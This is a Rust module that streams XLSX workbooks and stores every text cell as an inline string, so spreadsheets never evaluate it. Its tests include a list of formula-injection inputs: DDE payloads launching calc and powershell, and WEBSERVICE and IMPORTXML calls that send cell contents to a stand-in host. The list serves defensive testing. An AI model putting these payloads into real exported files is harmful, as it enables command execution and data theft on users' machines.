//! A workbook, written row by row: what is in memory is a part of it, whatever its length.
//!
//! A text is a text there (`inlineStr`) and never a formula, whatever it begins with; times, dates and numbers are what
//! they are, so that they can be sorted and added up.
use jiff::civil::{Date, DateTime, date};
use std::{
    io::{self, Write},
    sync::{Arc, Mutex, PoisonError},
};
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions, write::StreamWriter};

/// Rows of one sheet, as the format allows; more go to a second one.
const ROWS_MOST: u32 = 1_048_576;
/// Bytes of one sheet before they are packed: a part of four gigabytes needs what not every program reads.
const BYTES_MOST: u64 = 3 << 30;
/// Characters of one cell, as the format allows.
const CHARACTERS_MOST: usize = 32_767;

/// What stands in a cell.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Empty,
    Text(String),
    Whole(i64),
    Decimal(f64),
    Time(DateTime),
    Date(Date),
}

/// Takes what is ready, for whoever sends it.
#[derive(Clone, Default)]
struct Pipe(Arc<Mutex<Vec<u8>>>);
impl Pipe {
    fn take(&self) -> Vec<u8> {
        std::mem::take(&mut *self.0.lock().unwrap_or_else(PoisonError::into_inner))
    }
}
impl Write for Pipe {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// A workbook under way.
pub struct Book {
    zip: ZipWriter<StreamWriter<Pipe>>,
    pipe: Pipe,
    /// The first row of each sheet; it stays in sight.
    head: Vec<Cell>,
    sheets: u32,
    rows: u32,
    bytes: u64,
    /// What sheets are called; a second one has a number behind it.
    name: String,
}

impl Book {
    pub fn new(name: &str, head: Vec<Cell>) -> io::Result<Book> {
        let pipe = Pipe::default();
        let zip = ZipWriter::new_stream(pipe.clone());
        let mut book = Book { zip, pipe, head, sheets: 0, rows: 0, bytes: 0, name: name.to_owned() };
        book.begin_sheet()?;
        Ok(book)
    }
    fn part(&mut self, name: &str) -> io::Result<()> {
        // The time of a part says nothing, and the same list is the same file.
        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
        self.zip.start_file(name, options).map_err(io::Error::other)
    }
    fn text(&mut self, text: &str) -> io::Result<()> {
        self.bytes += text.len() as u64;
        self.zip.write_all(text.as_bytes())
    }
    fn begin_sheet(&mut self) -> io::Result<()> {
        self.sheets += 1;
        (self.rows, self.bytes) = (0, 0);
        self.part(&format!("xl/worksheets/sheet{}.xml", self.sheets))?;
        self.text(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
             <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
             <sheetViews><sheetView workbookViewId=\"0\"><pane ySplit=\"1\" topLeftCell=\"A2\" \
             activePane=\"bottomLeft\" state=\"frozen\"/></sheetView></sheetViews><cols>",
        )?;
        for column in 1..=self.head.len() {
            // The second one is the subject.
            let width = if column == 2 { 48 } else { 18 };
            self.text(&format!(
                "<col min=\"{column}\" max=\"{column}\" width=\"{width}\" customWidth=\"1\"/>"
            ))?;
        }
        self.text("</cols><sheetData>")?;
        let head = self.head.clone();
        self.write_row(&head, true)
    }
    fn end_sheet(&mut self) -> io::Result<()> {
        self.text("</sheetData></worksheet>")
    }
    /// Adds a row; a sheet that is full is followed by another one.
    pub fn row(&mut self, cells: &[Cell]) -> io::Result<()> {
        if self.rows >= ROWS_MOST || self.bytes >= BYTES_MOST {
            self.end_sheet()?;
            self.begin_sheet()?;
        }
        self.write_row(cells, false)
    }
    fn write_row(&mut self, cells: &[Cell], is_head: bool) -> io::Result<()> {
        self.rows += 1;
        let mut out = String::from("<row>");
        for cell in cells {
            match cell {
                Cell::Empty => out.push_str("<c/>"),
                Cell::Text(text) => {
                    out.push_str(if is_head { "<c s=\"3\" t=\"inlineStr\">" } else { "<c t=\"inlineStr\">" });
                    out.push_str("<is><t xml:space=\"preserve\">");
                    escape(text, &mut out);
                    out.push_str("</t></is></c>");
                }
                Cell::Whole(number) => out.push_str(&format!("<c><v>{number}</v></c>")),
                Cell::Decimal(number) if number.is_finite() => {
                    out.push_str(&format!("<c><v>{number}</v></c>"));
                }
                Cell::Decimal(_) => out.push_str("<c/>"),
                Cell::Time(at) => {
                    let seconds = at.time().duration_since(jiff::civil::Time::midnight()).as_secs();
                    let serial = serial(at.date()) as f64 + seconds as f64 / 86_400.0;
                    out.push_str(&format!("<c s=\"1\"><v>{serial}</v></c>"));
                }
                Cell::Date(at) => out.push_str(&format!("<c s=\"2\"><v>{}</v></c>", serial(*at))),
            }
        }
        out.push_str("</row>");
        self.text(&out)
    }
    /// What is ready to be sent.
    pub fn take(&self) -> Vec<u8> {
        self.pipe.take()
    }
    /// The end of the file.
    pub fn finish(mut self) -> io::Result<Vec<u8>> {
        self.end_sheet()?;
        const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
        let (mut types, mut sheets, mut links) = (String::new(), String::new(), String::new());
        for number in 1..=self.sheets {
            types += &format!(
                "<Override PartName=\"/xl/worksheets/sheet{number}.xml\" \
                 ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
            );
            let mut name = String::new();
            let called = match number {
                1 => self.name.clone(),
                number => format!("{} {number}", self.name),
            };
            escape(&called, &mut name);
            sheets += &format!("<sheet name=\"{name}\" sheetId=\"{number}\" r:id=\"rId{number}\"/>");
            links += &format!(
                "<Relationship Id=\"rId{number}\" \
                 Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" \
                 Target=\"worksheets/sheet{number}.xml\"/>"
            );
        }
        let styles = self.sheets + 1;
        for (name, text) in [
            (
                "xl/styles.xml",
                "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
                 <numFmts count=\"2\"><numFmt numFmtId=\"164\" formatCode=\"yyyy\\-mm\\-dd\\ hh:mm\"/>\
                 <numFmt numFmtId=\"165\" formatCode=\"yyyy\\-mm\\-dd\"/></numFmts>\
                 <fonts count=\"2\"><font><sz val=\"11\"/><name val=\"Calibri\"/></font>\
                 <font><b/><sz val=\"11\"/><name val=\"Calibri\"/></font></fonts>\
                 <fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill>\
                 <fill><patternFill patternType=\"gray125\"/></fill></fills>\
                 <borders count=\"1\"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
                 <cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs>\
                 <cellXfs count=\"4\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/>\
                 <xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>\
                 <xf numFmtId=\"165\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>\
                 <xf numFmtId=\"0\" fontId=\"1\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyFont=\"1\"/></cellXfs>\
                 <cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\" builtinId=\"0\"/></cellStyles></styleSheet>"
                    .to_owned(),
            ),
            (
                "xl/workbook.xml",
                format!(
                    "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
                     xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">\
                     <sheets>{sheets}</sheets></workbook>"
                ),
            ),
            (
                "xl/_rels/workbook.xml.rels",
                format!(
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{links}\
                     <Relationship Id=\"rId{styles}\" \
                     Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" \
                     Target=\"styles.xml\"/></Relationships>"
                ),
            ),
            (
                "_rels/.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
                 <Relationship Id=\"rId1\" \
                 Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" \
                 Target=\"xl/workbook.xml\"/></Relationships>"
                    .to_owned(),
            ),
            (
                "[Content_Types].xml",
                format!(
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
                     <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
                     <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
                     <Override PartName=\"/xl/workbook.xml\" \
                     ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>\
                     <Override PartName=\"/xl/styles.xml\" \
                     ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/>{types}</Types>"
                ),
            ),
        ] {
            self.part(name)?;
            self.text(HEAD)?;
            self.text(&text)?;
        }
        let pipe = self.pipe.clone();
        self.zip.finish().map_err(io::Error::other)?;
        Ok(pipe.take())
    }
}

/// The days since the beginning of a spreadsheet's calendar.
fn serial(day: Date) -> i64 {
    let since = day.since((jiff::Unit::Day, date(1899, 12, 30)));
    since.map_or(0, |span| i64::from(span.get_days()))
}

/// Text for XML: what the format cannot hold is left out, and `_x000D_` stays what it says.
fn escape(text: &str, out: &mut String) {
    let mut rest = text.chars().take(CHARACTERS_MOST).peekable();
    while let Some(c) = rest.next() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '_' => {
                // `_x0041_` would be read as a letter.
                let ahead: String = rest.clone().take(6).collect();
                let is_code = ahead.len() == 6
                    && ahead.starts_with('x')
                    && ahead.ends_with('_')
                    && ahead[1..5].bytes().all(|b| b.is_ascii_hexdigit());
                out.push_str(if is_code { "_x005F_" } else { "_" });
            }
            '\t' | '\n' => out.push(c),
            '\r' => out.push_str("_x000D_"),
            c if c < ' ' || c == '\u{fffe}' || c == '\u{ffff}' => {}
            c => out.push(c),
        }
    }
}

#[cfg(test)]
pub mod tests {
    use super::*;
    use jiff::civil::datetime;
    use std::io::{Cursor, Read};

    /// A part of a workbook, as text.
    pub fn part(file: &[u8], name: &str) -> String {
        let mut archive = zip::ZipArchive::new(Cursor::new(file)).unwrap();
        let mut text = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    }
    /// The texts of a sheet, unescaped.
    fn texts(sheet: &str) -> Vec<String> {
        let all = sheet.split("<t xml:space=\"preserve\">").skip(1);
        let plain = |text: &str| {
            let text = text.split("</t>").next().unwrap();
            let text = text.replace("_x000D_", "\r").replace("_x005F_", "_");
            text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
        };
        all.map(plain).collect()
    }
    fn text(text: &str) -> Cell {
        Cell::Text(text.into())
    }

    /// What spreadsheets would run, 200 and more.
    pub fn formulas() -> Vec<String> {
        let begins = [
            "=",
            "+",
            "-",
            "@",
            "\t=",
            "\r=",
            "\n=",
            " =",
            "\u{a0}=",
            "\u{feff}=",
            "＝",
            "＋",
            "－",
            "＠",
            "|",
            "%",
            "=\t",
            "==",
            "-+",
            "@@",
        ];
        let bodies = [
            "1+1",
            "HYPERLINK(\"http://x.example\";\"y\")",
            "cmd|' /C calc'!A0",
            "SUM(A1:A9)",
            "WEBSERVICE(\"http://x.example/\"&A1)",
            "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
            "2+5+cmd|' /C powershell'!A0",
            "1;2,3",
            "\"a\"\"b\"",
            "DDE(\"a\";\"b\";\"c\")",
            "<f>1</f>",
        ];
        begins.iter().flat_map(|begin| bodies.map(|body| format!("{begin}{body}"))).collect()
    }

    #[test]
    fn no_text_is_a_formula() {
        let formulas = formulas();
        assert!(formulas.len() >= 200);
        let mut book = Book::new("Tickets", vec![text("=HEAD()")]).unwrap();
        for formula in &formulas {
            book.row(&[text(formula)]).unwrap();
        }
        let file = book.finish().unwrap();
        let sheet = part(&file, "xl/worksheets/sheet1.xml");
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no cell is a formula");
        assert_eq!(sheet.matches("<c").count() - sheet.matches("<col").count(), formulas.len() + 1);
        assert_eq!(sheet.matches("t=\"inlineStr\"").count(), formulas.len() + 1);
        let expected: Vec<_> = std::iter::once("=HEAD()".to_owned()).chain(formulas).collect();
        assert_eq!(texts(&sheet), expected, "each says what it said");
    }
    #[test]
    fn cells_are_what_they_are_and_the_head_stays() {
        let mut book = Book::new("A & B", vec![text("Number"), text("Time")]).unwrap();
        let at = datetime(2026, 11, 25, 18, 0, 0, 0);
        book.row(&[Cell::Whole(7), Cell::Time(at), Cell::Date(at.date()), Cell::Decimal(1.5), Cell::Empty])
            .unwrap();
        book.row(&[text("\u{1}a_x0041_\r\n<&\u{ffff}")]).unwrap();
        let file = book.finish().unwrap();
        let sheet = part(&file, "xl/worksheets/sheet1.xml");
        assert!(sheet.contains("state=\"frozen\""));
        // 46351 is 2026-11-25 in every spreadsheet; three quarters of a day are 18:00.
        assert!(sheet.contains("<c><v>7</v></c><c s=\"1\"><v>46351.75</v></c><c s=\"2\"><v>46351</v></c><c><v>1.5</v></c><c/>"), "{sheet}");
        assert_eq!(texts(&sheet).last().unwrap(), "a_x0041_\r\n<&");
        assert!(part(&file, "xl/workbook.xml").contains("name=\"A &amp; B\""));
        assert!(part(&file, "[Content_Types].xml").contains("/xl/worksheets/sheet1.xml"));
    }
    #[test]
    fn what_is_in_memory_is_a_part_of_it() {
        let mut book = Book::new("Tickets", vec![text("Subject")]).unwrap();
        let (mut most, mut all) = (0, 0);
        for number in 0..40_000u64 {
            // Text that does not pack well.
            let noise = number.wrapping_mul(0x9E37_79B9_7F4A_7C15);
            book.row(&[text(&format!("{noise:x}{:x}", noise.rotate_left(17) ^ number))]).unwrap();
            if number % 500 == 499 {
                let ready = book.take().len();
                (most, all) = (most.max(ready), all + ready);
            }
        }
        all += book.finish().unwrap().len();
        assert!(all > 500_000 && most < all / 5, "{most} of {all}");
    }
}
